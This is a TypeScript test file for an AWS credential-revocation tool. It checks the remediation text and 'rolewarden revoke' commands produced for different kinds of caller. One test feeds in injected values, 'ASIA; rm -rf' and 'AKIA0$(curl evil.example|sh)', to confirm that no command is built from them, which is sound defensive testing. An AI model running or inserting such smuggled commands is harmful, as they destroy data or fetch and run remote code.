import { describe, expect, it } from 'vitest';
import { root, session, user } from '../../../scripts/callers.ts';
import { address } from '../../../scripts/places.ts';
import { callerIdentity, consoleLogin, stsCall } from '../../../scripts/records.ts';
import { irrevocable } from '../../../src/core/action/irrevocable.ts';
import { callerGoesOn, usedSession } from '../../../src/core/action/used.ts';
import type { Finding } from '../../../src/core/finding/finding.ts';
import { eventOf } from '../../support/events.ts';

const A = '111122223333';
const KEY = 'ASIAEXAMPLEEXAMPLE12';
const call = { at: '2026-06-01T12:00:00Z', from: address('hoster', 3), account: A };
const by = (name: string, as: string, path = '/') =>
  session({ role: { account: A, name, path }, session: as, key: KEY, issuedAt: '2026-06-01T11:00:00Z' });
const used = (caller: ReturnType<typeof by>, lineage: Finding['lineage'] = []) => {
  const told = usedSession(eventOf(callerIdentity({ ...call, by: caller })), lineage);
  return told === undefined ? undefined : [told.summary, ...told.whatToDo].join('\n');
};

/** The issue of the key, as a finding's lineage has it. */
const issued = (kind: 'service' | 'person', name: string): Finding['lineage'][number] => ({
  accessKeyId: KEY,
  actor: { key: `${kind}:${name}`, kind, name },
  role: `arn:aws:iam::${A}:role/shop-task`,
  accountId: A,
  time: '2026-06-01T11:00:00.000Z',
  expiresAt: null,
  place: null,
  network: null,
  client: '',
  finding: null,
});

describe('a call that issues nothing and uses a session', () => {
  it('of an instance: its key, the command, and what new credentials need', () => {
    const words = used(by('web-instance', 'i-0a1b2c3d4e5f60718'));
    expect(words).toContain(KEY);
    expect(words).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/web-instance`);
    expect(words).toContain('stop and start it, no reboot, or attach another instance profile');
    expect(words).not.toContain('pod');
    expect(words).not.toContain(`revoke ${KEY}`);
    // the step gives the command, so the sentence before it does not
    expect(words?.split('rolewarden revoke --role').length).toBe(2);
    expect(words).not.toContain('undefined');
  });

  it('of a task, which only its issue tells: the same, and not the one session', () => {
    const task = by('shop-task', '0123456789abcdef0123456789abcdef');
    const words = used(task, [issued('service', 'ecs-tasks.amazonaws.com')]);
    expect(words).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/shop-task`);
    expect(words).toContain('held by ecs-tasks.amazonaws.com');
    expect(words).toContain('stop the task; a service of ECS starts another');
    expect(words).not.toContain(`revoke ${KEY}`);
    for (const other of [
      issued('person', 'alice'),
      { ...issued('service', 'x'), accessKeyId: 'ASIAOTHER' },
    ]) {
      expect(used(task, [other])).not.toContain('held by');
      expect(used(task, [other])).toContain(`rolewarden revoke ${KEY}`);
    }
  });

  it('of a person, for whom account access manager took the role: the one session, and no workload', () => {
    const words = used(by('Developer', 'alice'), [issued('service', 'account-access.amazonaws.com')]);
    expect(words).not.toContain('held by');
    expect(words).toContain(`rolewarden revoke ${KEY}`);
  });

  it('of a workflow, which asked with its role’s session: what denying it stops, and the one session all the same', () => {
    const flow = { ...issued('person', 'flow-role'), heldBy: 'states.amazonaws.com' };
    const words = used(by('target-role', 'y'), [flow]);
    expect(words).toContain('held by states.amazonaws.com, which keeps the denied ones until they expire');
    expect(words).toContain(`if Rolewarden recorded its issue: rolewarden revoke ${KEY}`);
    const other = { ...flow, accessKeyId: 'ASIAOTHER' };
    expect(used(by('target-role', 'y'), [other])).not.toContain('held by');
  });

  it('of a service-linked role: what AWS lets nobody do, and of a role that only has such a name: the command', () => {
    const linked = by('AWSServiceRoleForRDS', 'rds', '/aws-service-role/rds.amazonaws.com/');
    expect(used(linked)).toContain('is a service-linked role');
    // the key is in the summary
    expect(used(linked)?.split(KEY).length).toBe(2);
    expect(used(linked)).not.toContain('rolewarden revoke');
    for (const name of ['AWSServiceRoleForBackdoor', 'AWSReservedSSO_Mine_0123456789abcdef']) {
      expect(used(by(name, 'x'))).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/${name}`);
    }
  });

  it('of root: whose key it is', () => {
    expect(used({ ...root(A), accessKeyId: 'AKIAEXAMPLEEXAMPLE12' })).toContain(
      `access key AKIAEXAMPLEEXAMPLE12 of the root user of ${A} made the call`,
    );
  });

  it('of a role: also the one session', () => {
    const words = used(by('Deploy', 'alice'));
    expect(words).toContain(`rolewarden revoke ${KEY}`);
    expect(words).toContain(`session ${KEY} of role Deploy in ${A} made the call and is still active\n`);
    expect(words).not.toContain('instance profile');
  });

  it('in a recording: until when, as its issue says or AWS allows, and not that it lasts', () => {
    const lasts = (caller: ReturnType<typeof by>, expiresAt: string | null = null) => {
      const event = eventOf(callerIdentity({ ...call, by: caller }));
      const lineage = [{ ...issued('person', 'alice'), expiresAt }];
      const summary = usedSession(event, lineage, 'recorded')?.summary;
      return [summary, ...callerGoesOn(event, lineage, 'recorded')].join('\n');
    };
    const known = lasts(by('Deploy', 'alice'), '2026-06-01T12:45:00.000Z');
    expect(known).toContain('made the call and is active until 2026-06-01T12:45:00Z\n');
    expect(known).toContain('which can request others until 2026-06-01T12:45:00Z. To end that too: ');
    expect(lasts(by('Deploy', 'alice'))).toContain('until 2026-06-02T00:00:00Z at the latest');
    const own = lasts({ ...user(A, 'bob'), accessKeyId: KEY });
    expect(own).toContain('until 2026-06-03T00:00:00Z at the latest');
    expect(lasts(user(A, 'bob'))).toContain('made the call and works until it is deactivated\n');
    const set = by(
      'AWSReservedSSO_Admin_0123456789abcdef',
      'a@example.com',
      '/aws-reserved/sso.amazonaws.com/',
    );
    expect(lasts(set)).toContain('can request others until it is deleted: delete it in Identity Center');
    for (const words of [known, own, lasts(user(A, 'bob')), lasts(set)]) expect(words).not.toContain('still');
  });

  it('of Identity Center: the steps there, and no command that cannot work', () => {
    const words = used(
      by('AWSReservedSSO_Admin_0123456789abcdef', 'alice@example.com', '/aws-reserved/sso.amazonaws.com/'),
    );
    expect(words).toContain('active sessions');
    expect(words).not.toContain('revoke --role');
  });

  it('of a user: the user’s sessions; with a long-term key that key', () => {
    const own = used({ ...user(A, 'bob'), accessKeyId: KEY });
    expect(own).toContain(`rolewarden revoke --user arn:aws:iam::${A}:user/bob`);
    expect(own).not.toContain(`End session ${KEY}`);
    const words = used(user(A, 'bob'));
    expect(words).toMatch(/AKIA\w+/);
    expect(words).toContain('--status Inactive');
    expect(words).not.toContain('rolewarden revoke');
  });

  it('of a sign-in to the console: how its session ends, which no key names', () => {
    const signIn = (caller: ReturnType<typeof user>, ok = true) => {
      const { accessKeyId: _, ...by } = caller;
      const told = usedSession(eventOf(consoleLogin({ ...call, by, mfa: false, ok })), []);
      return told && [told.summary, ...told.whatToDo].join('\n');
    };
    const bob = signIn(user(A, 'bob'));
    expect(bob).toContain(`the sign-in opened a console session of user bob in ${A}\n`);
    expect(bob).toContain(`rolewarden revoke --user arn:aws:iam::${A}:user/bob (add --dry-run`);
    expect(bob).toContain("aws iam list-access-keys --user-name 'bob'");
    const owner = signIn(root(A));
    expect(owner).toContain(`a console session of root of ${A}\n`);
    expect(owner).toContain('Change the root password');
    expect(owner).not.toContain('rolewarden revoke');
    expect(signIn(user(A, 'bob'), false)).toBeUndefined();
    expect(signIn({ ...user(A, 'bob'), arn: `arn:aws:iam::${A}:user/$(x)` })).toBeUndefined();
  });

  it('says nothing where no key was used, and builds no command from odd values', () => {
    expect(used({ type: 'AWSService', invokedBy: 'ec2.amazonaws.com' })).toBeUndefined();
    expect(used({ ...by('Deploy', 'alice'), accessKeyId: 'ASIA; rm -rf' })).toBeUndefined();
    expect(used({ ...user(A, 'bob'), accessKeyId: 'AKIA0$(curl evil.example|sh)' })).toBeUndefined();
    const odd = used({ ...by('Deploy', 'alice'), arn: `arn:aws:sts::${A}:assumed-role/De$(x)/alice` });
    expect(odd ?? '').not.toContain('$(x)');
  });
});

describe('GetWebIdentityToken', () => {
  it('is said to have issued a token that nobody can take back, and whose caller can be ended', () => {
    const answered = { webIdentityTokenId: 'x', expiration: 'Jun 1, 2026, 1:00:00 PM' };
    const asked = { audience: ['https://api.example.com'] };
    const event = eventOf(
      stsCall('GetWebIdentityToken', { ...call, by: by('Deploy', 'alice') }, asked, answered),
    );
    const why = irrevocable(event);
    expect(why?.summary).toContain('AWS cannot take it back');
    expect(why?.whatToDo.join('\n')).not.toContain('Nothing was issued');
    expect(why?.whatToDo.join('\n')).toContain(`rolewarden revoke ${KEY}`);
  });
});

describe('GetScopedCredentials', () => {
  it('is said to have issued credentials that live in the caller’s own session', () => {
    const scoped = 'ASIASCOPEDSCOPED1234';
    const answered = { credentials: { accessKeyId: scoped, expiration: 'Jun 1, 2026, 1:00:00 PM' } };
    const event = eventOf(
      stsCall('GetScopedCredentials', { ...call, by: by('Deploy', 'alice') }, null, answered),
    );
    const why = irrevocable(event);
    expect(why).toMatchObject({ reason: 'scoped', summary: expect.stringContaining(scoped) });
    expect(why?.summary).not.toContain('issued no credentials');
    expect(why?.whatToDo.join('\n')).toContain(`rolewarden revoke ${KEY}`);
    expect(why?.whatToDo.join('\n')).toContain(`rolewarden revoke --role arn:aws:iam::${A}:role/Deploy`);
  });
});
